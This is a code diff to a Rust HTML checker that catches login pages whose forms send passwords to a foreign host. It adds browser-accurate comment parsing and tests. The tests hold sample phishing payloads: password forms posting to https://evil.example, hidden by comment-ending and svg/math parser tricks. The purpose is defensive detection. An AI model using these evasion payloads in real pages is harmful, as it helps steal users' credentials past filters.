@@ -43,7 +43,7 @@ fn tags(html: &str) -> Vec<Tag> {
     let mut rest = html;
     while let Some((_, after)) = rest.split_once('<') {
         if let Some(comment) = after.strip_prefix("!--") {
-            rest = comment.split_once("-->").map_or("", |(_, after)| after);
+            rest = after_comment(comment);
             continue;
         }
         let is_end = after.starts_with('/');
@@ -65,6 +65,18 @@ fn tags(html: &str) -> Vec<Tag> {
         tags.push(tag);
     }
     tags
+}
+
+/// What follows a comment, read from behind its `<!--`. It ends where browsers end it (HTML standard, section 13.2.5.43
+/// and after), which is not at `-->` alone.
+fn after_comment(comment: &str) -> &str {
+    if let Some(after) = comment.strip_prefix('>').or_else(|| comment.strip_prefix("->")) {
+        return after;
+    }
+    let end = |mark: &str| comment.find(mark).map(|at| at + mark.len());
+    let ends = [end("-->"), end("--!>")];
+    let end = ends.into_iter().flatten().min();
+    end.and_then(|end| comment.get(end..)).unwrap_or_default()
 }
 
 /// Reads a tag from its name on; returns it and what follows its `>`.
@@ -223,6 +235,12 @@ pub fn compare_forms(place: &str, page: &str, wanted: &str) -> Vec<Finding> {
                 form.action
             ));
         }
+    }
+    for tag in page_tags.iter().filter(|tag| tag.raw.contains('<')) {
+        refuse(format!(
+            "the content of {} holds a <, from which some browsers may read a form",
+            tag.name
+        ));
     }
     for href in ways(&wanted_tags).difference(&ways(&page_tags)) {
         refuse(format!(
@@ -486,6 +504,27 @@ mod tests {
         let evil = format!("{WANTED}<form action=\"https://evil.example\"><input name=password></form>");
         let findings = compare_forms("login.html", &evil, WANTED);
         assert!(findings[0].message.contains("https://evil.example"));
+        for hidden in [
+            "<!-->FORM<!-- -->",
+            "<!--->FORM<!-- -->",
+            "<!-- x --!>FORM<!-- -->",
+            "<svg><style><div>FORM</style></svg>",
+            "<math><title>FORM</title></math>",
+        ] {
+            let evil = hidden.replace(
+                "FORM",
+                "<form method=post action=https://evil.example><input name=password>",
+            );
+            let findings = compare_forms("login.html", &format!("{evil}{WANTED}"), WANTED);
+            assert!(
+                findings
+                    .iter()
+                    .any(|finding| finding.severity == Severity::Refused),
+                "{hidden}"
+            );
+        }
+        let harmless = format!("<!-- <form action=x> --><title>a</title><style>a{{}}</style>{WANTED}");
+        assert!(compare_forms("login.html", &harmless, WANTED).is_empty());
         let evil = WANTED.replace("<button", "<button formaction=https://evil.example");
         assert!(
             compare_forms("login.html", &evil, WANTED)[0]
